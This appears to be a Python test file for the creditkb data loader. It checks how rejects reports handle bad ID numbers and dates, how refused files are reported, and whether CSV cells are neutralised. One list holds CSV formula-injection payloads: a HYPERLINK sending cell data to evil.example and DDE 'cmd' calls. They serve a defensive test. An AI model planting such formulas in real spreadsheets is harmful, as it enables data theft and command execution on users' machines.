"""Issue 11, the loader's half: what a load keeps out of its reports and its store, and
what it refuses.  Resident ID numbers in rejects reports and in free text, dates that are
no dates, formulas in the CSV files creditkb writes, the report of a refused file.  Real
files on disk, loaded by the real ``creditkb`` command in a subprocess (where the user
meets it), the store read back from disk."""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import importlib
import io
import os
import re
import subprocess
from pathlib import Path

import httpx
import openpyxl
import pytest
from stdnum.cn import ric, uscc

from creditkb.stores.embedded import EmbeddedStore
from test_cli import CREDITKB, free_port, run, wait_for_health

ROOT = Path(__file__).resolve().parents[1]
SECRET = {"CREDITKB_SECRET": "hardening-test-secret"}


def rid(body17: str) -> str:
    return body17 + ric.calc_check_digit(body17 + "0")  # (stdnum reads 18 characters)


def code(body17: str) -> str:
    return body17 + uscc.calc_check_digit(body17)


def wrong_check(number: str) -> str:
    """The number with its check character mistyped (one of the commonest slips)."""
    return number[:17] + ("0" if number[17] != "0" else "1")


FIRM, FIRM2 = code("91320505MA1MQ7X08"), code("91320211MA1Y4E9K0")
ZHANG = rid("32040219840312035")  # the real numbers a clerk meant
LI = rid("34122119960416311")
WANG = rid("32058319920927073")
ZHAO = rid("32050619881101002")
FIRMS = (
    "统一社会信用代码,企业名称,注册地区划代码,法定代表人姓名,法定代表人身份证号\n"
    f"{FIRM},苏州甲运输有限公司,320505,张三,{ZHANG}\n"
    f"{FIRM2},无锡乙物流有限责任公司,320211,,\n"
)


def write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def load(tmp_path, *paths, max_bad="1", env=None, args=()):
    return run("load", *map(str, paths), "--store", str(tmp_path / "s"), "--max-bad", max_bad,
               "--rejects-dir", str(tmp_path / "rejects"), *args, cwd=tmp_path,
               env={**SECRET, **(env or {})})


def report(tmp_path, name: str) -> list[dict]:
    text = (tmp_path / "rejects" / f"{name}.rejects.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def store_bytes(tmp_path) -> bytes:
    """Everything the embedded store keeps on disk (database and write-ahead log)."""
    return b"".join(p.read_bytes() for p in (tmp_path / "s").iterdir() if p.is_file())


# -- 4. formulas in the CSV files creditkb writes -----------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", " =1+1"]


def test_rejects_reports_neutralise_cells_a_spreadsheet_would_run(tmp_path):
    rows = "".join(f'"{f.replace(chr(34), chr(34) * 2)}",客车,320505\n' for f in FORMULAS)
    path = write(tmp_path / "in", "vehicles.csv", "车牌号码,车辆类型,所在地区划代码\n苏E12345,客车,320505\n"
                 + rows + "苏E23456,客车,-5\n")
    out = load(tmp_path, path)
    assert out.returncode == 0, out.stderr
    values = [r["value"] for r in report(tmp_path, "vehicles")]
    assert values == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'" + FORMULAS[3],
                      "'=1+1", "-5"]  # (cells are stripped; a plain number is no formula)


def test_every_csv_creditkb_writes_goes_through_the_one_helper():
    sources = [p for folder in ("creditkb", "loaders", "api", "queries", "graph_model", "bench")
               for p in (ROOT / folder).rglob("*.py")]
    writers = re.compile(r"\.to_csv\(|csv\.writer|csv\.DictWriter")
    offenders = [str(p.relative_to(ROOT)) for p in sources
                 if p.name != "csv_safety.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


# -- 5. the report of a refused file -------------------------------------------------------


def test_a_refused_file_still_writes_its_report_with_the_files_own_headers(tmp_path):
    vehicles = write(tmp_path / "in", "vehicles.csv",
                     "Plate,车辆类型,所在地区划代码\n苏E12345,客车,320505\n苏E1234,客车,320505\n")
    out = load(tmp_path, vehicles, max_bad="0")
    assert out.returncode == 1
    target = tmp_path / "rejects" / "vehicles.rejects.csv"
    assert f"rejects in {target}" in out.stderr and "row 3, Plate:" in out.stderr
    [bad] = report(tmp_path, "vehicles")
    assert (bad["row"], bad["column"], bad["value"]) == ("3", "Plate", "苏E1234")

    # A profile's headers (无锡's case system), not the exchange format's names.
    head = "案件编号,当事人类型,当事人证件号码,当事人名称,案由,处罚种类,罚没金额（元）,决定日期," \
           "执法机构,执法机构区划,信用影响,案件状态\n"
    agency = "无锡市交通运输综合行政执法支队,320200,一般,有效"
    wuxi = write(tmp_path / "wuxi", "cases.csv",
                 head + f"锡交执罚〔2024〕1号,企业,{FIRM},苏州甲,超限,罚款,100,2024-13-01,{agency}\n"
                 f"锡交执罚〔2024〕2号,企业,{FIRM},苏州甲,超限,罚款,100,2024-12-01,{agency}\n")
    out = load(tmp_path, wuxi, max_bad="0")
    assert out.returncode == 1 and "cases.rejects.csv" in out.stderr
    columns = {r["column"] for r in report(tmp_path, "cases")}
    assert columns == {"当事人证件号码", "决定日期"}  # unknown firm, and no such month


# -- the new modules' examples ---------------------------------------------------------------


@pytest.mark.parametrize("module", [
    "graph_model.csv_safety",
])
def test_docstring_examples_run(module):
    result = doctest.testmod(importlib.import_module(module))
    assert result.failed == 0 and result.attempted > 0
